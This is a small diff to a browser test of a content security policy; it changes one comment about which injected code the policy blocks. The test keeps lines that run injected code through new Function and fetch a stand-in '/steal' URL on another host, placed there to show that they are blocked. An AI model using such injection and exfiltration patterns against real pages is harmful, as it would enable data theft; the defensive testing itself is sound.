@@ -30,7 +30,7 @@ test('an injected script does not run, and nothing is fetched from other hosts',
     base.href = 'https://elsewhere.example/'
     document.body.append(place, inline, foreign, base)
     document.querySelector<HTMLAnchorElement>('#link')!.click()
-    // Code that the browser is told to run from outside has more rights. Code that runs later does not.
+    // Code in page.evaluate bypasses the content policy. Code in a timer does not.
     setTimeout(() => new Function("(window.ran ??= []).push('function')")())
     void fetch('https://elsewhere.example/steal').catch(() => {})
   })
